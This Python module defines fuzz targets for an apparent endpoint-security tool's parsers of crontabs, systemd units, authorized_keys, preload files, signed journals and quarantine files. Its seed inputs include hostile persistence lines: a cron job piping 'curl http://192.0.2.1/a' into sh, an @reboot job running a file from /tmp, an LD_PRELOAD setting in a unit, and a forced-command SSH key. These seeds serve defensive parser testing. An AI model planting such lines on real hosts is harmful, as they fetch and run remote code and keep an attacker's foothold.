"""The readers of hostile bytes, each as a function of bytes that may only return or refuse with a ``QuetsachError``.

``bench/fuzz.py`` runs them under atheris; ``tests/property/test_fuzz_targets.py`` runs each on its seeds and on what
Hypothesis thinks of, so that a target that rots is noticed.
"""

import contextlib
import hmac
import struct
import tempfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from quetsach.core.errors import QuetsachError
from quetsach.endpoint.collect.command import named_files
from quetsach.endpoint.collect.cron import parse_anacron_entry, parse_system_entry, parse_user_entry
from quetsach.endpoint.collect.preload import parse_preload_line
from quetsach.endpoint.collect.ssh import parse_authorized_key
from quetsach.endpoint.collect.systemd import parse_unit
from quetsach.endpoint.collect.users import parse_passwd
from quetsach.endpoint.host.mounts import parse_mountinfo
from quetsach.endpoint.keep.journal import MAGIC, read_journal
from quetsach.endpoint.keep.quarantine import Sealed
from quetsach.endpoint.plan.shell_line import separable
from quetsach.endpoint.plan.step import Step
from quetsach.endpoint.report.document import Report
from quetsach.endpoint.report.record import read_json
from quetsach.packs.container import unpack

KEY = bytes(32)
_scratch = tempfile.TemporaryDirectory(prefix="quetsach-fuzz-", dir="/dev/shm" if Path("/dev/shm").is_dir() else None)


@dataclass(frozen=True, slots=True)
class Target:
    """One reader. ``read`` raises nothing but ``QuetsachError``; ``seeds`` are well-formed inputs to start from."""

    read: Callable[[bytes], object]
    seeds: tuple[bytes, ...]


def _crontab(content: bytes) -> None:
    for line in content.split(b"\n"):
        for entry in (parse_system_entry(line), parse_user_entry(line, b"u"), parse_anacron_entry(line)):
            if entry is not None:
                list(named_files(entry.command))


def _lines(content: bytes) -> None:
    for line in content.split(b"\n"):
        parse_authorized_key(line)
        parse_preload_line(line)
    list(parse_passwd(content))
    parse_mountinfo(content)


def _shell(content: bytes) -> None:
    lines = content.split(b"\n")
    separable(lines, range(1, len(lines) + 1))


def _sealed(content: bytes) -> None:
    """Read a sealed file whose HMAC is right, as one is that our own key was stolen for, and as it comes."""
    for whole in (content, content + hmac.digest(KEY, content, "sha256")):
        path = Path(_scratch.name) / "item.sealed"
        path.write_bytes(whole)
        with contextlib.suppress(QuetsachError):
            sealed = Sealed.open(path, KEY)
            if sealed.record.state.size_bytes < 1 << 20:
                sealed.content(1 << 20)


def _journal(content: bytes) -> None:
    """Read a journal as it comes, and the content as the payload of a record that our own key signed."""
    read_journal(content, KEY)
    length = struct.pack("<I", len(content))
    head = length + struct.pack("<I", zlib.crc32(length)) + hmac.digest(KEY, content, "sha256")
    for record in read_journal(MAGIC + head + content, KEY).records:
        with contextlib.suppress(KeyError, ValueError, TypeError, AttributeError):  # what a session refuses them for
            Step.from_json(record["step"])


def _report(content: bytes) -> None:
    read_json(Report, content, where="fuzz")


UNIT = b"""[Unit]
Description=x \\
  y
[Service]
ExecStart=-/bin/sh -c 'a; b'
Environment=LD_PRELOAD=/a.so
[Install]
WantedBy=multi-user.target
"""
CRON = b"""SHELL=/bin/sh
@reboot root cd /tmp && ./a
0 5 * * 1 root curl http://192.0.2.1/a|sh
1 5 cron.daily run-parts /etc/cron.daily
"""
SHELL = b"if true; then\n  a\nfi\nfor x in 1 2; do b; done\ncat <<E\nE\n"
LINES = b"""command="/bin/sh -c x" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHJ c
root:x:0:0:root:/root:/bin/sh
22 1 0:20 / /proc rw - proc proc rw
"""

TARGETS: Mapping[str, Target] = {
    "unit-file": Target(lambda content: list(parse_unit(content)), (UNIT,)),
    "crontab": Target(_crontab, (CRON,)),
    "text-lines": Target(_lines, (LINES,)),
    "shell-script": Target(_shell, (SHELL,)),
    "journal": Target(_journal, (MAGIC, b'{"record":"step","step":{"number":1,"kind":"stop-unit"}}')),
    "sealed-file": Target(_sealed, (b"QSQRTN1\n" + bytes(64),)),
    "report": Target(_report, (b'{"format":"quetsach-report/1"}',)),
    "pack-container": Target(unpack, (b"QSPACK1\n",)),
}
